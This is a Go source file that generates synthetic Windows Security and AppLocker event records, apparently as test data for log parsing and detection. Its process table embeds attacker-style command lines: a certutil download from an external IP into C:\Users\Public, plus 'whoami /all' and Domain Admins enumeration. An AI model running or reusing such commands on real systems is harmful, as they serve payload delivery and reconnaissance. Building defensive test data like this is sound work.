package synthetic

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"wsec/internal/event"
)

// AppLockerChannel is the channel synthetic AppLocker events are written to.
const AppLockerChannel = "Microsoft-Windows-AppLocker/EXE and DLL"

// appLockerEvery: one position in this many is an AppLocker event.
const appLockerEvery = 50

// Options configures a Generator. Zero values take the documented default.
type Options struct {
	Computer string // default "SRV-APP01.contoso.local"
	Domain   string // NetBIOS domain, default "CONTOSO"
	Seed     uint64 // varies the mix; same seed, same events
	// Start is TimeCreated of event 0; default 2026-01-05T08:00:00Z.
	Start time.Time
	// Step is the time between consecutive events; default 1 ms.
	Step time.Duration
	// FirstRecordID is the EventRecordID of each channel's first event; default 1.
	FirstRecordID uint64
}

// Generator produces event n of the configured stream. It is immutable and
// safe for concurrent use.
type Generator struct {
	o Options
}

// New returns a generator.
func New(o Options) *Generator {
	if o.Computer == "" {
		o.Computer = "SRV-APP01.contoso.local"
	}
	if o.Domain == "" {
		o.Domain = "CONTOSO"
	}
	if o.Start.IsZero() {
		o.Start = time.Date(2026, 1, 5, 8, 0, 0, 0, time.UTC)
	}
	if o.Step == 0 {
		o.Step = time.Millisecond
	}
	if o.FirstRecordID == 0 {
		o.FirstRecordID = 1
	}
	return &Generator{o: o}
}

// Channel returns the channel of event n.
func Channel(n uint64) string {
	if n%appLockerEvery == appLockerEvery-1 {
		return AppLockerChannel
	}
	return "Security"
}

// RecordID returns the EventRecordID of event n within its channel.
func (g *Generator) RecordID(n uint64) uint64 {
	if Channel(n) == AppLockerChannel {
		return g.o.FirstRecordID + n/appLockerEvery
	}
	return g.o.FirstRecordID + n - n/appLockerEvery
}

// mix64 is SplitMix64's finaliser: a cheap, well-distributed hash so that
// event n's choices depend only on (seed, n).
func mix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

type rnd struct{ s uint64 }

func (r *rnd) next() uint64 { r.s = mix64(r.s); return r.s }

// pick returns a value in [0, n).
func (r *rnd) pick(n int) int { return int(r.next() % uint64(n)) }

// Event fills e with event n, reusing e.Data's capacity.
func (g *Generator) Event(n uint64, e *event.Event) {
	data := e.Data[:0]
	*e = event.Event{Data: data, Section: event.SectionEventData}
	s := &e.System
	s.TimeCreated = g.o.Start.Add(time.Duration(n) * g.o.Step)
	s.EventRecordID = g.RecordID(n)
	s.Computer = g.o.Computer
	s.ProcessID = 644
	s.ThreadID = uint32(700 + n%4096)
	r := rnd{s: g.o.Seed ^ n*0x2545f4914f6cdd1d}
	if Channel(n) == AppLockerChannel {
		g.appLocker(&r, e)
		return
	}
	s.Channel = "Security"
	s.Provider = "Microsoft-Windows-Security-Auditing"
	s.ProviderGUID = "{54849625-5478-4994-A5BA-3E3B0328C30D}"
	s.Keywords = auditSuccess
	// Failed-logon bursts: positions in a window of 64 of every 4096 are
	// 4625s from one attacker address against few accounts.
	if w := n % 4096; w >= 1000 && w < 1064 {
		g.failedLogon(&r, e, n/4096)
		return
	}
	switch p := r.pick(1000); {
	case p < 340:
		g.logon(&r, e)
	case p < 540:
		g.logoff(&r, e)
	case p < 640:
		g.specialPrivileges(&r, e)
	case p < 820:
		g.processCreation(&r, e)
	case p < 840:
		g.explicitCredentials(&r, e)
	case p < 880:
		g.credentialValidation(&r, e)
	case p < 920:
		g.kerberosTGT(&r, e)
	case p < 970:
		g.serviceTicket(&r, e)
	case p < 985:
		g.groupChange(&r, e)
	default:
		g.accountChange(&r, e)
	}
}

const (
	auditSuccess = 0x8020000000000000
	auditFailure = 0x8010000000000000
)

var users = [...]string{"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
	"mallory", "svc_sql", "svc_backup", "admin.jsmith", "oscar", "peggy"}

var workstations = [...]string{"WS-0117", "WS-0233", "WS-0412", "LT-HR-07", "LT-FIN-02", "JUMP01", "SRV-FILE01"}

var internalIPs = [...]string{"10.0.4.21", "10.0.4.37", "10.0.7.110", "10.0.12.5", "192.168.20.14", "172.16.3.9"}

var externalIPs = [...]string{"185.220.101.47", "45.155.205.233", "103.75.190.12", "89.248.165.74", "20.51.6.3"}

type proc struct{ image, cmd string }

var processes = [...]proc{
	{`C:\Windows\System32\cmd.exe`, `cmd.exe /c "whoami /all"`},
	{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1`},
	{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
	{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\alice\Downloads\Q4 report.docx"`},
	{`C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`},
	{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL`},
	{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`},
	{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`},
	{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://45.155.205.233/a.txt C:\Users\Public\a.txt`},
	{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer`},
}

func (g *Generator) sid(i int) string {
	return "S-1-5-21-3623811015-3361044348-30300820-" + strconv.Itoa(1100+i)
}

func hexID(v uint64) string { return "0x" + strconv.FormatUint(v, 16) }

func (g *Generator) subjectSystem(e *event.Event) {
	e.Data = append(e.Data,
		event.Field{Name: "SubjectUserSid", Value: "S-1-5-18"},
		event.Field{Name: "SubjectUserName", Value: machineAccount(g.o.Computer)},
		event.Field{Name: "SubjectDomainName", Value: g.o.Domain},
		event.Field{Name: "SubjectLogonId", Value: "0x3e7"})
}

func machineAccount(computer string) string {
	for i := 0; i < len(computer); i++ {
		if computer[i] == '.' {
			return computer[:i] + "$"
		}
	}
	return computer + "$"
}

func (g *Generator) logon(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Version, e.System.Task = 4624, 2, 12544
	u := r.pick(len(users))
	logonType, ip, ws, proc, pkg := "3", internalIPs[r.pick(len(internalIPs))], workstations[r.pick(len(workstations))], "NtLmSsp ", "NTLM"
	switch t := r.pick(10); {
	case t < 2:
		logonType, ip, proc, pkg = "2", "127.0.0.1", "User32 ", "Negotiate"
	case t < 3:
		logonType, proc, pkg = "10", "User32 ", "Negotiate"
		if r.pick(4) == 0 {
			ip = externalIPs[r.pick(len(externalIPs))]
		}
	case t < 6:
		proc, pkg = "Kerberos", "Kerberos"
	}
	g.subjectSystem(e)
	e.Data = append(e.Data,
		event.Field{Name: "TargetUserSid", Value: g.sid(u)},
		event.Field{Name: "TargetUserName", Value: users[u]},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain},
		event.Field{Name: "TargetLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "LogonType", Value: logonType},
		event.Field{Name: "LogonProcessName", Value: proc},
		event.Field{Name: "AuthenticationPackageName", Value: pkg},
		event.Field{Name: "WorkstationName", Value: ws},
		event.Field{Name: "LogonGuid", Value: "{00000000-0000-0000-0000-000000000000}"},
		event.Field{Name: "TransmittedServices", Value: "-"},
		event.Field{Name: "LmPackageName", Value: "-"},
		event.Field{Name: "KeyLength", Value: "0"},
		event.Field{Name: "ProcessId", Value: "0x2c4"},
		event.Field{Name: "ProcessName", Value: `C:\Windows\System32\lsass.exe`},
		event.Field{Name: "IpAddress", Value: ip},
		event.Field{Name: "IpPort", Value: strconv.Itoa(49152 + r.pick(16000))},
		event.Field{Name: "ImpersonationLevel", Value: "%%1833"},
		event.Field{Name: "RestrictedAdminMode", Value: "-"},
		event.Field{Name: "TargetOutboundUserName", Value: "-"},
		event.Field{Name: "TargetOutboundDomainName", Value: "-"},
		event.Field{Name: "VirtualAccount", Value: "%%1843"},
		event.Field{Name: "TargetLinkedLogonId", Value: "0x0"},
		event.Field{Name: "ElevatedToken", Value: "%%1842"})
}

func (g *Generator) failedLogon(r *rnd, e *event.Event, burst uint64) {
	e.System.EventID, e.System.Version, e.System.Task, e.System.Keywords = 4625, 0, 12544, auditFailure
	ip := externalIPs[burst%uint64(len(externalIPs))]
	user := [...]string{"administrator", "admin", "backup", "test", users[burst%uint64(len(users))]}[r.pick(5)]
	sub := "0xc000006a" // bad password
	if user != users[burst%uint64(len(users))] {
		sub = "0xc0000064" // no such user
	}
	e.Data = append(e.Data,
		event.Field{Name: "SubjectUserSid", Value: "S-1-0-0"},
		event.Field{Name: "SubjectUserName", Value: "-"},
		event.Field{Name: "SubjectDomainName", Value: "-"},
		event.Field{Name: "SubjectLogonId", Value: "0x0"},
		event.Field{Name: "TargetUserSid", Value: "S-1-0-0"},
		event.Field{Name: "TargetUserName", Value: user},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain},
		event.Field{Name: "Status", Value: "0xc000006d"},
		event.Field{Name: "FailureReason", Value: "%%2313"},
		event.Field{Name: "SubStatus", Value: sub},
		event.Field{Name: "LogonType", Value: "3"},
		event.Field{Name: "LogonProcessName", Value: "NtLmSsp "},
		event.Field{Name: "AuthenticationPackageName", Value: "NTLM"},
		event.Field{Name: "WorkstationName", Value: "-"},
		event.Field{Name: "TransmittedServices", Value: "-"},
		event.Field{Name: "LmPackageName", Value: "-"},
		event.Field{Name: "KeyLength", Value: "0"},
		event.Field{Name: "ProcessId", Value: "0x0"},
		event.Field{Name: "ProcessName", Value: "-"},
		event.Field{Name: "IpAddress", Value: ip},
		event.Field{Name: "IpPort", Value: strconv.Itoa(1024 + r.pick(60000))})
}

func (g *Generator) logoff(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Task = 4634, 12545
	u := r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "TargetUserSid", Value: g.sid(u)},
		event.Field{Name: "TargetUserName", Value: users[u]},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain},
		event.Field{Name: "TargetLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "LogonType", Value: [...]string{"2", "3", "3", "3", "10"}[r.pick(5)]})
}

func (g *Generator) specialPrivileges(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Task = 4672, 12548
	u := r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "SubjectUserSid", Value: g.sid(u)},
		event.Field{Name: "SubjectUserName", Value: users[u]},
		event.Field{Name: "SubjectDomainName", Value: g.o.Domain},
		event.Field{Name: "SubjectLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "PrivilegeList", Value: "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"})
}

func (g *Generator) processCreation(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Version, e.System.Task = 4688, 2, 13312
	u := r.pick(len(users))
	p := processes[r.pick(len(processes))]
	parent := processes[r.pick(len(processes))].image
	e.Data = append(e.Data,
		event.Field{Name: "SubjectUserSid", Value: g.sid(u)},
		event.Field{Name: "SubjectUserName", Value: users[u]},
		event.Field{Name: "SubjectDomainName", Value: g.o.Domain},
		event.Field{Name: "SubjectLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "NewProcessId", Value: hexID(0x400 + r.next()%0xfc00)},
		event.Field{Name: "NewProcessName", Value: p.image},
		event.Field{Name: "TokenElevationType", Value: [...]string{"%%1936", "%%1937", "%%1938"}[r.pick(3)]},
		event.Field{Name: "ProcessId", Value: hexID(0x400 + r.next()%0xfc00)},
		event.Field{Name: "CommandLine", Value: p.cmd},
		event.Field{Name: "TargetUserSid", Value: "S-1-0-0"},
		event.Field{Name: "TargetUserName", Value: "-"},
		event.Field{Name: "TargetDomainName", Value: "-"},
		event.Field{Name: "TargetLogonId", Value: "0x0"},
		event.Field{Name: "ParentProcessName", Value: parent},
		event.Field{Name: "MandatoryLabel", Value: "S-1-16-8192"})
}

func (g *Generator) explicitCredentials(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Task = 4648, 12544
	u, t := r.pick(len(users)), r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "SubjectUserSid", Value: g.sid(u)},
		event.Field{Name: "SubjectUserName", Value: users[u]},
		event.Field{Name: "SubjectDomainName", Value: g.o.Domain},
		event.Field{Name: "SubjectLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "LogonGuid", Value: "{00000000-0000-0000-0000-000000000000}"},
		event.Field{Name: "TargetUserName", Value: users[t]},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain},
		event.Field{Name: "TargetLogonGuid", Value: "{00000000-0000-0000-0000-000000000000}"},
		event.Field{Name: "TargetServerName", Value: workstations[r.pick(len(workstations))]},
		event.Field{Name: "TargetInfo", Value: "localhost"},
		event.Field{Name: "ProcessId", Value: "0x1f4c"},
		event.Field{Name: "ProcessName", Value: `C:\Windows\System32\runas.exe`},
		event.Field{Name: "IpAddress", Value: "::1"},
		event.Field{Name: "IpPort", Value: "0"})
}

func (g *Generator) credentialValidation(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Task = 4776, 14336
	status := "0x0"
	if r.pick(10) == 0 {
		status, e.System.Keywords = "0xc000006a", auditFailure
	}
	e.Data = append(e.Data,
		event.Field{Name: "PackageName", Value: "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"},
		event.Field{Name: "TargetUserName", Value: users[r.pick(len(users))]},
		event.Field{Name: "Workstation", Value: workstations[r.pick(len(workstations))]},
		event.Field{Name: "Status", Value: status})
}

func (g *Generator) kerberosTGT(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Task = 4768, 14339
	u := r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "TargetUserName", Value: users[u]},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain + ".LOCAL"},
		event.Field{Name: "TargetSid", Value: g.sid(u)},
		event.Field{Name: "ServiceName", Value: "krbtgt"},
		event.Field{Name: "ServiceSid", Value: "S-1-5-21-3623811015-3361044348-30300820-502"},
		event.Field{Name: "TicketOptions", Value: "0x40810010"},
		event.Field{Name: "Status", Value: "0x0"},
		event.Field{Name: "TicketEncryptionType", Value: "0x12"},
		event.Field{Name: "PreAuthType", Value: "2"},
		event.Field{Name: "IpAddress", Value: "::ffff:" + internalIPs[r.pick(len(internalIPs))]},
		event.Field{Name: "IpPort", Value: strconv.Itoa(49152 + r.pick(16000))},
		event.Field{Name: "CertIssuerName", Value: ""},
		event.Field{Name: "CertSerialNumber", Value: ""},
		event.Field{Name: "CertThumbprint", Value: ""})
}

func (g *Generator) serviceTicket(r *rnd, e *event.Event) {
	e.System.EventID, e.System.Task = 4769, 14337
	enc := "0x12"
	if r.pick(20) == 0 {
		enc = "0x17" // RC4: what Kerberoasting rules look for
	}
	e.Data = append(e.Data,
		event.Field{Name: "TargetUserName", Value: users[r.pick(len(users))] + "@" + g.o.Domain + ".LOCAL"},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain + ".LOCAL"},
		event.Field{Name: "ServiceName", Value: [...]string{"SRV-FILE01$", "svc_sql", "HTTP/intranet", "SRV-APP01$"}[r.pick(4)]},
		event.Field{Name: "ServiceSid", Value: g.sid(40 + r.pick(8))},
		event.Field{Name: "TicketOptions", Value: "0x40810000"},
		event.Field{Name: "TicketEncryptionType", Value: enc},
		event.Field{Name: "IpAddress", Value: "::ffff:" + internalIPs[r.pick(len(internalIPs))]},
		event.Field{Name: "IpPort", Value: strconv.Itoa(49152 + r.pick(16000))},
		event.Field{Name: "Status", Value: "0x0"},
		event.Field{Name: "LogonGuid", Value: "{8A1E3C3B-5F0D-2B46-3C8E-0F6B0D5C9A11}"},
		event.Field{Name: "TransmittedServices", Value: "-"})
}

func (g *Generator) groupChange(r *rnd, e *event.Event) {
	ids := [...]uint16{4728, 4732, 4756}
	groups := [...]string{"Domain Admins", "Administrators", "Enterprise Admins"}
	i := r.pick(3)
	e.System.EventID, e.System.Task = ids[i], 13826
	m, a := r.pick(len(users)), r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "MemberName", Value: fmt.Sprintf("CN=%s,OU=Users,DC=contoso,DC=local", users[m])},
		event.Field{Name: "MemberSid", Value: g.sid(m)},
		event.Field{Name: "TargetUserName", Value: groups[i]},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain},
		event.Field{Name: "TargetSid", Value: "S-1-5-21-3623811015-3361044348-30300820-512"},
		event.Field{Name: "SubjectUserSid", Value: g.sid(a)},
		event.Field{Name: "SubjectUserName", Value: users[a]},
		event.Field{Name: "SubjectDomainName", Value: g.o.Domain},
		event.Field{Name: "SubjectLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "PrivilegeList", Value: "-"})
}

func (g *Generator) accountChange(r *rnd, e *event.Event) {
	ids := [...]uint16{4720, 4722, 4738}
	e.System.EventID, e.System.Task = ids[r.pick(3)], 13824
	t, a := r.pick(len(users)), r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "TargetUserName", Value: users[t]},
		event.Field{Name: "TargetDomainName", Value: g.o.Domain},
		event.Field{Name: "TargetSid", Value: g.sid(t)},
		event.Field{Name: "SubjectUserSid", Value: g.sid(a)},
		event.Field{Name: "SubjectUserName", Value: users[a]},
		event.Field{Name: "SubjectDomainName", Value: g.o.Domain},
		event.Field{Name: "SubjectLogonId", Value: hexID(0x1000000 + r.next()%0xffffff)},
		event.Field{Name: "PrivilegeList", Value: "-"},
		event.Field{Name: "SamAccountName", Value: users[t]},
		event.Field{Name: "DisplayName", Value: "%%1793"},
		event.Field{Name: "UserPrincipalName", Value: users[t] + "@contoso.local"},
		event.Field{Name: "UserAccountControl", Value: "%%2080"})
}

func (g *Generator) appLocker(r *rnd, e *event.Event) {
	s := &e.System
	s.Channel = AppLockerChannel
	s.Provider = "Microsoft-Windows-AppLocker"
	s.ProviderGUID = "{CBDA4DBF-8D5D-4F69-9578-BE14AA540D22}"
	s.Keywords = 0x8000000000000000
	s.Task = 0
	e.Section = event.SectionUserData
	e.UserDataName = "RuleAndFileData"
	e.UserDataNS = "http://schemas.microsoft.com/schemas/event/Microsoft.Windows/1.0.0.0"
	kind := r.pick(10)
	s.EventID, s.Level = 8002, 4
	switch {
	case kind == 0:
		s.EventID, s.Level = 8004, 2 // blocked
	case kind < 3:
		s.EventID, s.Level = 8003, 3 // would have been blocked (audit mode)
	}
	p := processes[r.pick(len(processes))]
	u := r.pick(len(users))
	e.Data = append(e.Data,
		event.Field{Name: "PolicyNameLength", Value: "3"},
		event.Field{Name: "PolicyName", Value: "EXE"},
		event.Field{Name: "RuleId", Value: "{fd686d83-a829-4351-8ff4-27c7de5755d2}"},
		event.Field{Name: "RuleNameLength", Value: "21"},
		event.Field{Name: "RuleName", Value: "(Default Rule) All files"},
		event.Field{Name: "RuleSddlLength", Value: "49"},
		event.Field{Name: "RuleSddl", Value: "D:(XA;;FX;;;S-1-1-0;(APPID://PATH Contains \"*\"))"},
		event.Field{Name: "TargetUser", Value: g.sid(u)},
		event.Field{Name: "TargetProcessId", Value: strconv.Itoa(1024 + r.pick(30000))},
		event.Field{Name: "FilePathLength", Value: strconv.Itoa(len(p.image))},
		event.Field{Name: "FilePath", Value: appLockerPath(p.image)},
		event.Field{Name: "FileHashLength", Value: "32"},
		event.Field{Name: "FileHash", Value: fmt.Sprintf("%016X%016X", mix64(uint64(u)), mix64(uint64(len(p.cmd))))},
		event.Field{Name: "FqbnLength", Value: "1"},
		event.Field{Name: "Fqbn", Value: "-"})
}

// appLockerPath writes a path the way AppLocker does, with its path variables.
func appLockerPath(image string) string {
	for _, v := range [...]struct{ prefix, variable string }{
		{`C:\Windows\System32`, "%SYSTEM32%"},
		{`C:\Program Files`, "%PROGRAMFILES%"},
		{`C:\Windows`, "%WINDIR%"},
	} {
		if strings.HasPrefix(image, v.prefix) {
			return v.variable + image[len(v.prefix):]
		}
	}
	return image
}
